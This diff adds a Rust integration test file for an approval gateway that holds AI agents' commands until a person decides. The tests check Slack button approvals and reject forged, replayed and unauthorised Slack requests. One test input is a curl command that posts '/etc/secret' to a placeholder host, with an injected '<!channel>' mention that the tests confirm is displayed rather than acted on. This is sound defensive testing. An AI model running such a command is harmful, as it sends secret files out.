@@ -1,0 +1,377 @@
+//! Notifications end to end: a simulated agent (real mTLS gRPC) asks, the service posts to
+//! a local stand-in of Slack / Teams / a webhook receiver (`support::chat`), reviewers
+//! decide with signed Slack button payloads or the API, and the stand-in checks every
+//! call's shape and records it.
+
+mod support;
+
+use std::{path::Path, time::Duration};
+
+use gatekeep_proto::{
+    GrantDuration,
+    model::{RequestState, Verdict},
+};
+use gatekeep_server::notify::NotifyConfig;
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+use support::{
+    Harness, answer,
+    chat::{self, StandIn},
+    exec_request, json_of, submit, wait_pending,
+};
+use uuid::Uuid;
+
+/// The `[notify]` section the tests use, as an operator writes it.
+fn notify_toml(secrets: &Path, standin: std::net::SocketAddr, extra: &str) -> NotifyConfig {
+    std::fs::write(secrets.join("slack-bot-token"), format!("{}\n", chat::BOT_TOKEN)).unwrap();
+    std::fs::write(secrets.join("slack-signing-secret"), chat::SIGNING_SECRET).unwrap();
+    std::fs::write(secrets.join("hook-key"), chat::WEBHOOK_KEY).unwrap();
+    std::fs::write(
+        secrets.join("teams-url"),
+        format!("http://{standin}/teams/workflow"),
+    )
+    .unwrap();
+    let dir = secrets.display();
+    let text = format!(
+        r#"
+console_url = "https://gatekeep.example.com:7443"
+[retry]
+initial_ms = 50
+max_ms = 2000
+max_attempts = 30
+
+[slack]
+api_url = "http://{standin}/api"
+bot_token = {{ file = "{dir}/slack-bot-token" }}
+signing_secret = {{ file = "{dir}/slack-signing-secret" }}
+team_id = "{team}"
+[[slack.routes]]
+policy = "ai-agents"
+channel = "C0AGENTS"
+[slack.reviewers]
+"alice@example.com" = ["sre"]
+"carol@example.com" = ["security"]
+"worker@example.com" = ["sre"]
+"bob@example.com" = ["sre"]
+{extra}
+"#,
+        team = chat::TEAM,
+    );
+    toml::from_str(&text).unwrap_or_else(|err| panic!("notify config: {err}\n{text}"))
+}
+
+/// A Slack `block_actions` payload for a button of the message, as Slack sends it.
+fn button_payload(user: &str, team: &str, action: &str, id: Uuid, duration: Option<&str>) -> Value {
+    let mut state = json!({"values": {}});
+    if let Some(duration) = duration {
+        state["values"]["gatekeep_actions"]["gatekeep_duration"] = json!({
+            "type": "static_select",
+            "selected_option": {"text": {"type": "plain_text", "text": duration}, "value": duration}
+        });
+    }
+    json!({
+        "type": "block_actions",
+        "user": {"id": user, "username": user.to_lowercase(), "team_id": team},
+        "api_app_id": "A0GATEKEEP",
+        "token": "deprecated-verification-token",
+        "container": {"type": "message", "message_ts": "1700000000.000001", "channel_id": "C0AGENTS"},
+        "trigger_id": "1.2.3",
+        "team": {"id": team, "domain": "example"},
+        "channel": {"id": "C0AGENTS", "name": "agents"},
+        "message": {"ts": "1700000000.000001", "type": "message"},
+        "state": state,
+        "response_url": "https://hooks.slack.com/actions/T0/1/x",
+        "actions": [{
+            "action_id": action, "block_id": "gatekeep_actions", "type": "button",
+            "value": id.to_string(), "action_ts": "1700000005.000001",
+            "text": {"type": "plain_text", "text": "Approve"}
+        }]
+    })
+}
+
+/// Form-encodes and signs `payload` as Slack does (`secret`, at `timestamp`).
+fn signed(payload: &Value, secret: &str, timestamp: i64) -> (String, String, String) {
+    let body = form_urlencoded::Serializer::new(String::new())
+        .append_pair("payload", &payload.to_string())
+        .finish();
+    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret.as_bytes());
+    let base = format!("v0:{timestamp}:{body}");
+    let signature = format!("v0={}", hex::encode(ring::hmac::sign(&key, base.as_bytes())));
+    (body, timestamp.to_string(), signature)
+}
+
+async fn post_interaction(
+    harness: &Harness,
+    (body, timestamp, signature): &(String, String, String),
+) -> (StatusCode, String) {
+    let response = harness
+        .client(None)
+        .post(harness.url("/slack/interactions"))
+        .header("content-type", "application/x-www-form-urlencoded")
+        .header("x-slack-request-timestamp", timestamp)
+        .header("x-slack-signature", signature)
+        .body(body.clone())
+        .send()
+        .await
+        .expect("post interaction");
+    let status = response.status();
+    (status, response.text().await.expect("body"))
+}
+
+fn now() -> i64 {
+    time::OffsetDateTime::now_utc().unix_timestamp()
+}
+
+fn for_request(id: Uuid) -> impl Fn(&Value) -> bool {
+    move |body: &Value| body.to_string().contains(&id.to_string())
+}
+
+/// Where the tests leave the JSON the stand-in received (for the docs and the report).
+fn examples_dir() -> std::path::PathBuf {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/notify-examples");
+    std::fs::create_dir_all(&dir).expect("examples dir");
+    dir
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_slack_button_approves_and_the_message_says_who() {
+    let (standin, addr) = StandIn::start().await;
+    let secrets = tempfile::tempdir().unwrap();
+    let notify = notify_toml(secrets.path(), addr, "");
+    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
+    let (link, _events) = harness.agent("web-1").await;
+    let request = exec_request(&["curl", "-d", "@/etc/secret", "<!channel> https://x"]);
+    let id = request.id;
+    let pending = submit(&link, request);
+
+    let posted = standin.wait_for("chat.postMessage", 1, for_request(id)).await;
+    let message = &posted[0].body;
+    assert_eq!(posted[0].headers["authorization"], format!("Bearer {}", chat::BOT_TOKEN));
+    assert_eq!(message["channel"], "C0AGENTS");
+    let text = message.to_string();
+    for part in ["web-1", "ai-agents", "Command line", "/usr/bin/curl", "worker (uid 1000)", "Time left"] {
+        assert!(text.contains(part), "the message names {part}: {text}");
+    }
+    // The workload's `<!channel>` is shown, not acted on: quoted in plain text, and the
+    // mrkdwn fallback never carries it.
+    assert!(!message["text"].as_str().unwrap().contains("<!channel>"));
+    assert!(text.contains(r#"\"<!channel> https://x\""#), "{text}");
+    let actions = message["blocks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|b| b["type"] == "actions")
+        .expect("an actions block");
+    let kinds: Vec<&str> = actions["elements"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        kinds,
+        ["gatekeep_duration", "gatekeep_approve", "gatekeep_deny", "gatekeep_open"],
+        "a duration choice (the policy allows 1h), the buttons and the console link"
+    );
+    assert_eq!(actions["elements"][1]["value"], id.to_string());
+
+    // Alice presses Approve with "1h" chosen; Slack signs the request.
+    let payload = button_payload("U0ALICE", chat::TEAM, "gatekeep_approve", id, Some("1h"));
+    let (status, body) = post_interaction(&harness, &signed(&payload, chat::SIGNING_SECRET, now())).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    let decision = answer(pending).await;
+    assert_eq!(decision.verdict, Verdict::Allow);
+    assert_eq!(decision.state, RequestState::Approved);
+    assert_eq!(decision.decided_by, "alice@example.com (slack:U0ALICE)");
+    assert_eq!(decision.duration, GrantDuration::For(Duration::from_hours(1)));
+
+    let updated = standin.wait_for("chat.update", 1, for_request(id)).await;
+    let update = &updated[0].body;
+    assert_eq!(update["ts"], "1700000000.000001", "the ts chat.postMessage answered");
+    assert_eq!(update["channel"], "C0AGENTS");
+    let text = update.to_string();
+    assert!(text.contains("gatekeep: Approved"), "{text}");
+    assert!(text.contains("*Approved* by alice@example.com (slack:U0ALICE)"), "{text}");
+    assert!(text.contains("(for 1h)"), "{text}");
+    assert!(
+        !update["blocks"].as_array().unwrap().iter().any(|b| b["type"] == "actions"),
+        "a decided request has no buttons"
+    );
+    std::fs::write(
+        examples_dir().join("slack-posted.json"),
+        serde_json::to_string_pretty(message).unwrap(),
+    )
+    .unwrap();
+    std::fs::write(
+        examples_dir().join("slack-updated.json"),
+        serde_json::to_string_pretty(update).unwrap(),
+    )
+    .unwrap();
+    // Nothing more: one post, one update.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(standin.ok_calls("chat.postMessage", for_request(id)).len(), 1);
+    assert_eq!(standin.ok_calls("chat.update", for_request(id)).len(), 1);
+    assert_eq!(standin.violations(), Vec::<String>::new());
+    harness.stop().await;
+}
+
+/// Waits for an ephemeral message to `user` and returns its text.
+async fn ephemeral_to(standin: &StandIn, user: &str, count: usize) -> String {
+    let calls = standin
+        .wait_for("chat.postEphemeral", count, |b| b["user"] == user)
+        .await;
+    calls[count - 1].body["text"].as_str().unwrap().to_owned()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn forged_stale_replayed_and_unmapped_slack_requests_decide_nothing() {
+    let (standin, addr) = StandIn::start().await;
+    let secrets = tempfile::tempdir().unwrap();
+    let notify = notify_toml(secrets.path(), addr, "");
+    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
+    let http = harness.client(None);
+    let (link, _events) = harness.agent("web-1").await;
+    let request = exec_request(&["curl", "https://example.org"]);
+    let id = request.id;
+    let pending = submit(&link, request);
+    wait_pending(&http, &harness, &harness.token("alice"), id).await;
+    let approve = |user: &str, team: &str| button_payload(user, team, "gatekeep_approve", id, None);
+
+    // Wrong signing secret.
+    let forged = signed(&approve("U0ALICE", chat::TEAM), "not-the-secret", now());
+    let (status, body) = post_interaction(&harness, &forged).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    assert!(body.contains("does not match"), "{body}");
+    // A body changed after signing.
+    let (good_body, ts, sig) = signed(&approve("U0ALICE", chat::TEAM), chat::SIGNING_SECRET, now());
+    let tampered = (good_body.replace("U0ALICE", "U0CAROL"), ts, sig);
+    assert_eq!(post_interaction(&harness, &tampered).await.0, StatusCode::UNAUTHORIZED);
+    // Stale: signed correctly six minutes ago.
+    let stale = signed(&approve("U0ALICE", chat::TEAM), chat::SIGNING_SECRET, now() - 360);
+    let (status, body) = post_interaction(&harness, &stale).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    assert!(body.contains("more than 5 minutes"), "{body}");
+
+    // Unmapped: a confirmed email no reviewer has.
+    let mallory = signed(&approve("U0MALLORY", chat::TEAM), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &mallory).await.0, StatusCode::OK);
+    let text = ephemeral_to(&standin, "U0MALLORY", 1).await;
+    assert!(text.contains("mallory@elsewhere.example is not a gatekeep reviewer"), "{text}");
+    // The same request again: a replay, refused before anything else.
+    let (status, body) = post_interaction(&harness, &mallory).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    assert!(body.contains("replay"), "{body}");
+    // Another workspace.
+    let other = signed(&approve("U0ALICE", "T0ELSEWHERE"), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &other).await.0, StatusCode::OK);
+    let text = ephemeral_to(&standin, "U0ALICE", 1).await;
+    assert!(text.contains("workspace"), "{text}");
+    // An email Slack has not confirmed.
+    let unconfirmed = signed(&approve("U0UNCONFIRMED", chat::TEAM), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &unconfirmed).await.0, StatusCode::OK);
+    let text = ephemeral_to(&standin, "U0UNCONFIRMED", 1).await;
+    assert!(text.contains("no confirmed email"), "{text}");
+    // The rules of every surface: carol is not in the policy's group `sre`.
+    let carol = signed(&approve("U0CAROL", chat::TEAM), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &carol).await.0, StatusCode::OK);
+    let text = ephemeral_to(&standin, "U0CAROL", 1).await;
+    assert!(text.contains("is not in a reviewer group of policy `ai-agents`"), "{text}");
+    // ... and nobody approves their own workload: worker@ is the workload's user `worker`.
+    let worker = signed(&approve("U0WORKER", chat::TEAM), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &worker).await.0, StatusCode::OK);
+    let text = ephemeral_to(&standin, "U0WORKER", 1).await;
+    assert!(text.contains("cannot approve its own request"), "{text}");
+
+    // Still pending after all that; then a real approval goes through.
+    let (status, body) = json_of(
+        http.get(harness.url(&format!("/api/v1/requests/{id}")))
+            .bearer_auth(harness.token("alice"))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body["request"]["state"], "pending", "{body}");
+    let alice = signed(&approve("U0ALICE", chat::TEAM), chat::SIGNING_SECRET, now());
+    assert_eq!(post_interaction(&harness, &alice).await.0, StatusCode::OK);
+    assert_eq!(answer(pending).await.verdict, Verdict::Allow);
+    assert_eq!(standin.violations(), Vec::<String>::new());
+    harness.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_slack_outage_delays_notices_but_never_a_decision_and_loses_none() {
+    // Slack is down: nothing listens on its address yet.
+    let standin = StandIn::default();
+    let addr = StandIn::free_addr();
+    let secrets = tempfile::tempdir().unwrap();
+    let notify = notify_toml(secrets.path(), addr, "");
+    let mut harness = Harness::start_with(|config, _| config.notify = notify).await;
+    let http = harness.client(None);
+    let (link, _events) = harness.agent("web-1").await;
+    let first = exec_request(&["curl", "https://one.example"]);
+    let second = exec_request(&["curl", "https://two.example"]);
+    let (first_id, second_id) = (first.id, second.id);
+    let first_answer = submit(&link, first);
+    let second_answer = submit(&link, second);
+    wait_pending(&http, &harness, &harness.token("alice"), first_id).await;
+    wait_pending(&http, &harness, &harness.token("alice"), second_id).await;
+
+    // Decided from the API while Slack is down: the agent hears at once.
+    let (status, body) = json_of(
+        http.post(harness.url(&format!("/api/v1/requests/{first_id}/decision")))
+            .bearer_auth(harness.token("alice"))
+            .json(&json!({"verdict": "allow", "reason": "while slack was down"}))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert_eq!(answer(first_answer).await.verdict, Verdict::Allow);
+
+    // Slack comes back, answering 500 twice and then 429 (Retry-After: 1) once.
+    standin.fail("chat.postMessage", 2, 1);
+    standin.serve_on(addr).await;
+    let posted = standin.wait_for("chat.postMessage", 1, for_request(first_id)).await;
+    let text = posted[0].body.to_string();
+    assert!(
+        text.contains("*Approved* by alice"),
+        "the late message shows the outcome: {text}"
+    );
+    standin.wait_for("chat.postMessage", 1, for_request(second_id)).await;
+    let failed: Vec<u16> = standin
+        .calls()
+        .iter()
+        .filter(|c| c.method == "chat.postMessage" && c.status != 200)
+        .map(|c| c.status)
+        .collect();
+    assert_eq!(failed, [500, 500, 429], "the failures were retried");
+
+    // The second request is decided now, with Slack up: one update.
+    let (status, _) = json_of(
+        http.post(harness.url(&format!("/api/v1/requests/{second_id}/decision")))
+            .bearer_auth(harness.token("bob"))
+            .json(&json!({"verdict": "deny", "reason": "no"}))
+            .send()
+            .await
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(answer(second_answer).await.verdict, Verdict::Deny);
+    let updated = standin.wait_for("chat.update", 1, for_request(second_id)).await;
+    assert!(updated[0].body.to_string().contains("*Denied* by bob"));
+
+    // Exactly once each: the first message was posted once (already decided, so never
+    // updated), the second posted once and updated once.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    assert_eq!(standin.ok_calls("chat.postMessage", for_request(first_id)).len(), 1);
+    assert_eq!(standin.ok_calls("chat.update", for_request(first_id)).len(), 0);
+    assert_eq!(standin.ok_calls("chat.postMessage", for_request(second_id)).len(), 1);
+    assert_eq!(standin.ok_calls("chat.update", for_request(second_id)).len(), 1);
+    assert_eq!(standin.violations(), Vec::<String>::new());
+    harness.stop().await;
+}
